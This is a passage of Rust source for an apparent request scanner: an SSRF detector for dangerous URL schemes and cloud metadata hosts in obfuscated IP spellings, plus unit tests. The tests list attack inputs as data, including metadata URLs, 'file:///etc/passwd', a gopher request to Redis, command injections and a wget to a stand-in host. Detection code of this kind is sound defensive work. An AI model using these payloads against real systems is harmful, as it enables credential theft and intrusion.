/// spelling of `169.254.169.254` (decimal `2852039166`, hex `0xa9fea9fe`, octal
/// `0251.0376.0251.0376`, short forms, `[::ffff:169.254.169.254]`), AWS ECS
/// `169.254.170.2`, AWS IPv6 `fd00:ec2::254`, Alibaba `100.100.100.200` and the names
/// `metadata`, `metadata.google.internal`, `instance-data`. These hosts are only
/// reachable from inside a cloud VM, so no benign client names them in a URL; bare
/// `100.100.100.200` (carrier-grade NAT space, a possible client address in
/// `X-Forwarded-For`) is deliberately not matched outside a URL.
fn ssrf(s: &str, m: u32, strict: bool) -> Option<&'static str> {
    if m & C_COLON != 0 {
        for i in anchors(s, ':') {
            if !s
                .as_bytes()
                .get(i.wrapping_sub(1))
                .is_some_and(u8::is_ascii_lowercase)
            {
                continue;
            }
            let rest = from(s, i);
            let slashes = rest.starts_with(":/") || rest.starts_with(":\\");
            let detail = match word_before(s, i, false) {
                "file" if slashes => "file_scheme",
                "gopher" if slashes => "gopher_scheme",
                "dict" if slashes => "dict_scheme",
                "php" | "phar" | "expect" | "zip" if slashes => "php_wrapper",
                "tftp" if slashes => "tftp_scheme",
                "ldap" if slashes => "ldap_scheme",
                "jar" if !strict || jar_inner_url(rest) => "jar_scheme",
                "netdoc" if !strict || slashes => "netdoc_scheme",
                _ if slashes && metadata_host(url_host(rest)) => "cloud_metadata",
                _ => continue,
            };
            return Some(detail);
        }
    }
    if m & C_DOT != 0 && (s.contains("169.254.169.254") || s.contains("metadata.google.internal")) {
        return Some("cloud_metadata");
    }
    None
}

/// After `jar`: `:` then an inner URL (`jar:http://…!/`, `jar:file:/…`).
fn jar_inner_url(rest: &str) -> bool {
    let r = rest.strip_prefix(':').unwrap_or(rest);
    ["http", "file:", "ftp:", "jar:"]
        .iter()
        .any(|p| r.starts_with(p))
}

/// The host of a URL given the text from the `:` after its scheme: slashes skipped,
/// user info (`user@`) dropped, cut at the first path, query or fragment byte. Keeps
/// brackets and port (`[::1]:80`, `h:80`); [`metadata_host`] strips them.
fn url_host(rest: &str) -> &str {
    let a = rest.trim_start_matches(':').trim_start_matches(['/', '\\']);
    let a = head(a, 300);
    let end = a
        .find(['/', '\\', '?', '#', ' ', '"', '\'', '<', '>', ','])
        .unwrap_or(a.len());
    let authority = a.get(..end).unwrap_or("");
    authority.rsplit('@').next().unwrap_or(authority)
}

/// `169.254.169.254` (AWS, Azure, GCP, OCI, DigitalOcean…).
const METADATA_V4: u32 = 0xA9FE_A9FE;
/// `169.254.170.2` (AWS ECS task metadata).
const ECS_V4: u32 = 0xA9FE_AA02;
/// `100.100.100.200` (Alibaba Cloud).
const ALIBABA_V4: u32 = 0x6464_64C8;

/// Whether a URL host (lower-case, maybe with port or brackets) is a cloud metadata
/// endpoint, in any spelling a URL parser or `inet_aton` accepts.
pub(super) fn metadata_host(host: &str) -> bool {
    if let Some(v6) = host.strip_prefix('[') {
        let inner = v6.split(']').next().unwrap_or("");
        let inner = inner.split('%').next().unwrap_or(inner);
        return inner.parse::<Ipv6Addr>().is_ok_and(|a| {
            a == Ipv6Addr::new(0xfd00, 0x0ec2, 0, 0, 0, 0, 0, 0x0254)
                || a.to_ipv4().is_some_and(|v4| is_metadata_v4(u32::from(v4)))
        });
    }
    let host = host.split(':').next().unwrap_or(host);
    let host = host.strip_suffix('.').unwrap_or(host);
    if matches!(
        host,
        "metadata" | "metadata.google.internal" | "instance-data"
    ) || host.starts_with("instance-data.")
    {
        return true;
    }
    inet_aton(host).is_some_and(is_metadata_v4)
}

fn is_metadata_v4(a: u32) -> bool {
    matches!(a, METADATA_V4 | ECS_V4 | ALIBABA_V4)
}

/// IPv4 in the forms `inet_aton` (and so curl and many URL parsers) accepts: 1–4
/// dot-separated parts, each decimal, `0x` hex or `0`-prefixed octal; the last part
/// fills the remaining bytes (`169.254.43518`, `2852039166`).
pub(super) fn inet_aton(s: &str) -> Option<u32> {
    if s.is_empty() || s.len() > 64 {
        return None;
    }
    let mut parts = [0u64; 4];
    let mut n = 0usize;
    for p in s.split('.') {
        let slot = parts.get_mut(n)?;
        let v = if let Some(h) = p.strip_prefix("0x") {
            if h.is_empty() {
                0
            } else {
                u64::from_str_radix(h, 16).ok()?
            }
        } else if let Some(o) = p.strip_prefix('0').filter(|o| !o.is_empty()) {
            u64::from_str_radix(o, 8).ok()?
        } else {
            if !p.bytes().all(|b| b.is_ascii_digit()) {
                return None;
            }
            p.parse::<u64>().ok()?
        };
        *slot = v;
        n += 1;
    }
    let [a, b, c, d] = parts;
    let v = match n {
        1 => a,
        2 if a <= 0xFF && b <= 0xFF_FFFF => (a << 24) | b,
        3 if a <= 0xFF && b <= 0xFF && c <= 0xFFFF => (a << 24) | (b << 16) | c,
        4 if a <= 0xFF && b <= 0xFF && c <= 0xFF && d <= 0xFF => {
            (a << 24) | (b << 16) | (c << 8) | d
        }
        _ => return None,
    };
    u32::try_from(v).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(s: &str, fam: Families) -> Vec<(Pattern, &'static str)> {
        let mut out = Vec::new();
        scan_text(s, classify(s.as_bytes()), fam, &mut |p, d| out.push((p, d)));
        out
    }

    #[test]
    fn classify_marks_triggers() {
        assert_eq!(classify(b"abc123"), 0);
        assert_eq!(classify(b"a'b"), C_QUOTE);
        assert_eq!(classify(b"A;"), C_UPPER | C_SEMI);
        assert_eq!(classify(&[0xff, 0x00]), C_NUL);
    }

    #[test]
    fn word_helpers() {
        assert_eq!(word_before("x javascript:", 12, false), "javascript");
        assert_eq!(word_before("onerror =", 8, true), "onerror");
        assert_eq!(word_before("=", 0, true), "");
        assert_eq!(word_before("日本語:", "日本語".len(), false), "");
        assert_eq!(head("日本語", 4), "日");
        assert!(has_word("a set b", "set"));
        assert!(!has_word("asset", "set"));
    }

    #[test]
    fn hostile_repetitions_stay_linear() {
        // Each of these would be quadratic without bounded look-aheads; they must
        // finish quickly even in a debug build.
        let inputs = [
            ";select ".repeat(2000),
            "$(".repeat(8000),
            "union (".repeat(2000),
            "' or ".repeat(3000),
            "a".repeat(16_000) + ":",
            "/*".repeat(8000),
            "(".repeat(16_000),
            "=".repeat(16_000),
            "|".repeat(16_000),
            "& ".repeat(8000),
            "; ".repeat(8000) + "cat",
            "..".repeat(8000),
            "http://".repeat(2000),
            "http://".to_owned() + &"1.".repeat(8000),
        ];
        for s in &inputs {
            let start = std::time::Instant::now();
            let _ = hits(s, ALL);
            let _ = hits(s, HEADER);
            assert!(start.elapsed().as_millis() < 2_000, "{}", &s[..10]);
        }
    }

    #[test]
    fn header_family_spares_urls_but_not_attacks() {
        for benign in [
            "https://example.com/a/b?x=1&y=2#top",
            "https://chat.example.com/c/123?x=1&y=2",
            "http://127.0.0.1:8080/?next=/v1/models",
            "mozilla/5.0 (linux; u; android 4.0.3; id; gt-i9100 build/iml74k)",
            "mozilla/5.0 (linux; android 9; cat s61) applewebkit/537.36",
            "mozilla/5.0 (linux; android 13; sh-m24) applewebkit/537.36",
            "loading.../done",
            "curl/8.5.0",
            "foo jar:1.2",
        ] {
            assert!(
                hits(benign, HEADER).is_empty(),
                "{benign}: {:?}",
                hits(benign, HEADER)
            );
        }
        for attack in [
            "https://example.com/a/../b",
            "file:///etc/passwd",
            "gopher://127.0.0.1:6379/_info",
            "http://169.254.169.254/latest/meta-data/",
            "http://2852039166/latest/",
            "http://0xa9fea9fe/",
            "http://0251.0376.0251.0376/",
            "http://[::ffff:169.254.169.254]/",
            "http://[fd00:ec2::254]/",
            "http://user@100.100.100.200/latest/",
            "x; cat /etc/hosts",
            "x | id",
            "x && wget http://e.vil/a",
        ] {
            assert!(!hits(attack, HEADER).is_empty(), "{attack}");
        }
    }

    #[test]
    fn inet_aton_forms() {
        assert_eq!(inet_aton("169.254.169.254"), Some(METADATA_V4));
        assert_eq!(inet_aton("2852039166"), Some(METADATA_V4));
        assert_eq!(inet_aton("0xa9fea9fe"), Some(METADATA_V4));
        assert_eq!(inet_aton("0251.0376.0251.0376"), Some(METADATA_V4));
        assert_eq!(inet_aton("169.254.43518"), Some(METADATA_V4));
        assert_eq!(inet_aton("169.16689662"), Some(METADATA_V4));
        assert_eq!(inet_aton("1.2.3.4.5"), None);
        assert_eq!(inet_aton("256.1.1.1"), None);
        assert_eq!(inet_aton("example"), None);
        assert_eq!(inet_aton(""), None);
        assert_eq!(inet_aton("99999999999999999999999"), None);
        assert!(metadata_host("metadata.google.internal."));
        assert!(!metadata_host("example.com"));
        assert!(!metadata_host("[::1]:8080"));
    }
}
